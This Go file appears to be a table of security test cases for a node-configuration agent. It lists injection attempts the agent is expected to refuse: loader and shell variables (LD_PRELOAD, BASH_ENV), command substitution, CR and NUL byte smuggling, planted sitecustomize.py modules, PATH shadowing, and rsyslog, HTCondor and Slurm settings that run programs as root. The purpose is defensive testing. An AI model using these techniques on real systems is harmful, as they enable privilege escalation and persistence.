// SPDX-License-Identifier: Apache-2.0

package attacks

var interpreters = []Attack{
	{
		Name: "context-variables", Family: "interpreters", Tries: "has the shell and the loader run its code by variables of context.sh", StoppedBy: Policy, Stage: Both,
		Files: map[string]string{
			"context.sh": "BASH_ENV=/var/lib/hepix/context/evil\nENV=/var/lib/hepix/context/evil\nLD_PRELOAD=/var/lib/hepix/context/evil.so\nLD_LIBRARY_PATH=/tmp\nLD_AUDIT=/tmp/x\nIFS=x\nPATH=/tmp\nPS4=x\n" +
				"SHELLOPTS=xtrace\nPYTHONSTARTUP=/tmp/x\nPYTHONPATH=/tmp\nPERL5OPT=-Mx\nRUBYOPT=-rx\nGCONV_PATH=/tmp\nHOME=/tmp\nCTX_STAGE=forged\nBASH_FUNC_ls%%='() { id; }'\nexport LD_DEBUG=all\n" +
				"HARMLESS=yes\n",
			"evil": "echo '= evil ran'\n",
		},
		Script: `for v in BASH_ENV ENV LD_PRELOAD LD_LIBRARY_PATH LD_AUDIT LD_DEBUG PYTHONSTARTUP PYTHONPATH PERL5OPT RUBYOPT GCONV_PATH; do env | grep -q "^$v=" && say $v set; done; say harmless $HARMLESS; say path $(echo $PATH | cut -c 1-17); say home $HOME; say stage ${CTX_STAGE%forged}`,
		Inside: []string{"harmless yes", "path /run/ctxagent/bin", "home /", "stage prolog|epilog"},
		Says:   "is reserved",
	},
	{
		Name: "context-commands", Family: "interpreters", Tries: "runs commands by the values of context.sh", StoppedBy: Policy,
		Files:  map[string]string{"context.sh": "A=$(touch /etc/evil)\nB=`touch /etc/evil`\nC=x; touch /etc/evil\ntouch /etc/evil\nD='x\nE=\"$HOME\"\nF='ok'\n"},
		Script: `[ ! -e /etc/evil ] || say evil ran; say f $F; say a x$A$B$C$D$E`,
		Inside: []string{"f ok", "a x"},
	},
	{
		Name: "shebang", Family: "interpreters", Tries: "smuggles options to the agent's programs through other files' #! lines", StoppedBy: Harmless,
		Script: `printf '#!/run/ctxagent/agent sandbox-init\n' >/tmp/a; printf '#!./intruder capabilities\n' >/tmp/b; printf '#!/tmp/c\n' >/tmp/c; chmod 755 /tmp/a /tmp/b /tmp/c; for f in a b c; do /tmp/$f >/dev/null 2>&1; done; say done yes`,
		Inside: []string{"done yes"},
	},
	{
		Name: "shim-environment", Family: "interpreters", Tries: "misleads the stand-in for systemctl by its environment, its name and its limits", StoppedBy: Shim,
		Script:  `LD_PRELOAD=/tmp/x.so GODEBUG=x GOTRACEBACK=crash PATH=/tmp systemctl restart sshd; (cd /tmp; ulimit -n 5; /run/ctxagent/bin/systemctl stop sshd); ln -s /run/ctxagent/agent /tmp/systemctl; /tmp/systemctl mask sshd; exit 0`,
		Outcome: "refused", Refused: []string{"units sshd.service"},
	},
	{
		Name: "path-shadow", Family: "interpreters", Tries: "puts programs of its own before the image's for whoever comes later", StoppedBy: Policy,
		Script:  `mkdir -p /usr/local/sbin /usr/local/bin; for p in /usr/local/sbin/systemctl /usr/local/bin/rsyslogd; do printf '#!/bin/sh\n' >$p; chmod 755 $p; done`,
		Outcome: "refused", Refused: []string{"path /usr/local/sbin/systemctl", "path /usr/local/bin/rsyslogd"},
	},
	{
		Name: "python-perl", Family: "interpreters", Tries: "leaves modules that the image's Python and Perl would load", StoppedBy: Policy,
		Script:  `for d in /usr/lib/python3/dist-packages /usr/local/lib/python3.11/dist-packages /etc/perl /usr/local/share/perl; do mkdir -p $d; echo 'import os' >$d/sitecustomize.py; done; mkdir -p /etc/python3.11; echo x >/etc/python3.11/sitecustomize.py`,
		Outcome: "refused", Refused: []string{"path /usr/lib/python3/dist-packages/sitecustomize.py", "path /etc/perl/sitecustomize.py", "path /etc/python3.11/sitecustomize.py"},
	},
	{
		Name: "ifs", Family: "interpreters", Tries: "has a shell split words by separators of its own", StoppedBy: Harmless,
		Script: `IFS=/; export IFS; ENV=/tmp/evil; export ENV; BASH_ENV=/tmp/evil; export BASH_ENV; echo 'echo evil' >/tmp/evil; unset IFS; r=$(sh -c 'echo /etc/passwd'); say word "${r##*evil}"`,
		Inside: []string{"word /etc/passwd"},
	},
	{
		Name: "crlf", Family: "interpreters", Tries: "hides a second command behind a carriage return", StoppedBy: Policy,
		Script: "echo x\r\necho '*.* @192.0.2.1' >/etc/rsyslog.d/50-site.conf\r\n", Outcome: "failed", Says: "CR LF",
	},
	{
		Name: "nul-byte", Family: "interpreters", Tries: "hides a command behind a NUL byte", StoppedBy: Policy,
		Script: "echo x\x00; echo '*.* @192.0.2.1' >/etc/rsyslog.d/50-site.conf\n", Outcome: "failed", Says: "NUL byte",
	},
}

// Content that an allowed path may not have. The grammars have their own tests;
// these show that they stand in the way of a whole stage.
var content = []Attack{
	{
		Name: "rsyslog-omprog", Family: "content", Tries: "has rsyslogd start a program, under four spellings", StoppedBy: Grammar,
		Script:  `cd /etc/rsyslog.d; echo 'module(load="omprog")' >1.conf; echo 'module(load="omp\162og")' >2.conf; echo '*.* ^/opt/condor/x' >3.conf; printf 'mod\\\nule(load="omprog")\n' >4.conf`,
		Outcome: "refused", Refused: []string{"grammar:rsyslog /etc/rsyslog.d/1.conf", "grammar:rsyslog /etc/rsyslog.d/2.conf", "grammar:rsyslog /etc/rsyslog.d/3.conf", "grammar:rsyslog /etc/rsyslog.d/4.conf"},
	},
	{
		Name: "rsyslog-files", Family: "content", Tries: "has rsyslogd write files, load modules and include others", StoppedBy: Grammar,
		Script:  `cd /etc/rsyslog.d; echo '*.* /etc/cron.d/site' >1.conf; echo '$ModLoad omfile' >2.conf; echo '$IncludeConfig /opt/condor/x' >3.conf; echo 'include(file="/opt/condor/x")' >4.conf; echo '*.* |/opt/condor/fifo' >5.conf; echo '*.* :omprog:' >6.conf`,
		Outcome: "refused", Refused: []string{"grammar:rsyslog /etc/rsyslog.d/1.conf", "grammar:rsyslog /etc/rsyslog.d/2.conf", "grammar:rsyslog /etc/rsyslog.d/3.conf", "grammar:rsyslog /etc/rsyslog.d/4.conf",
			"grammar:rsyslog /etc/rsyslog.d/5.conf", "grammar:rsyslog /etc/rsyslog.d/6.conf"},
	},
	{
		Name: "condor-programs", Family: "content", Tries: "has HTCondor start programs as root by cron jobs, features and includes", StoppedBy: Grammar,
		Script:  `mkdir -p /etc/condor/config.d; cd /etc/condor/config.d; echo 'STARTD_CRON_JOBLIST = x' >1.config; echo 'use FEATURE : StartdCronOneShot(x, /opt/condor/x)' >2.config; printf 'SITE = x\\\n\nSTARTD_CRON_x_EXECUTABLE=/x\n' >3.config; echo 'include command : /opt/condor/x' >4.config; echo 'USER_JOB_WRAPPER = /opt/condor/x' >5.config`,
		Outcome: "refused", Refused: []string{"grammar:htcondor /etc/condor/config.d/1.config", "grammar:htcondor /etc/condor/config.d/2.config", "grammar:htcondor /etc/condor/config.d/3.config",
			"grammar:htcondor /etc/condor/config.d/4.config", "grammar:htcondor /etc/condor/config.d/5.config"},
	},
	{
		Name: "slurm-programs", Family: "content", Tries: "has slurmd start programs as root and load plugins of its own", StoppedBy: Grammar,
		Script:  `mkdir -p /etc/slurm; printf 'Prolog=/opt/slurm/x\nHealthCheckProgram=/opt/slurm/x\nPluginDir=/opt/slurm\nInclude /opt/slurm/x\n' >/etc/slurm/slurm.conf; echo 'SLURMD_OPTIONS="-f /opt/slurm/x"' >/etc/default/slurmd`,
		Outcome: "refused", Refused: []string{"grammar:slurm /etc/slurm/slurm.conf", "grammar:slurm-defaults /etc/default/slurmd"},
	},
	{
		Name: "defaults-shell", Family: "content", Tries: "runs commands from a defaults file, and moves a daemon's own configuration", StoppedBy: Grammar,
		Script:  `printf 'ARGS="$(id)"\nLD_PRELOAD=/x.so\nARGS="--web.config.file=/opt/condor/x"\n' >/etc/default/prometheus-node-exporter`,
		Outcome: "refused", Refused: []string{"grammar:node_exporter /etc/default/prometheus-node-exporter"},
	},
	{
		Name: "binary-config", Family: "content", Tries: "leaves invalid UTF-8, NUL bytes, a byte order mark and CR in configurations", StoppedBy: Grammar,
		Script:  `cd /etc/rsyslog.d; printf '*.* @192.0.2.1\000\n' >1.conf; printf '\357\273\277*.* @192.0.2.1\n' >2.conf; printf '*.* @192.0.2.1\r\n' >3.conf; printf '*.* @192.0.2.\351\n' >4.conf`,
		Outcome: "refused", Refused: []string{"grammar:rsyslog /etc/rsyslog.d/1.conf", "grammar:rsyslog /etc/rsyslog.d/2.conf", "grammar:rsyslog /etc/rsyslog.d/3.conf", "grammar:rsyslog /etc/rsyslog.d/4.conf"},
	},
}
